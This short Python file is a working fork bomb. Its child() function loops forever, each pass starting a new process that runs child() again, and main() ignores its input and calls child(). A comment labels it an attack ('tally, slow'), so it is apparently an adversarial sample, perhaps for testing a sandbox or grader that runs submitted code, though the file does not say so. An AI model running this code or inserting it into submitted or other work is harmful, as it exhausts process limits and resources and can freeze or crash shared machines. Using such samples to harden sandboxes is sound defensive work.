"""Starts processes by multiprocessing that start processes, without an end."""

# attacks: tally, slow

import multiprocessing


def child():
    while True:
        multiprocessing.Process(target=child).start()


def main(numbers):
    child()
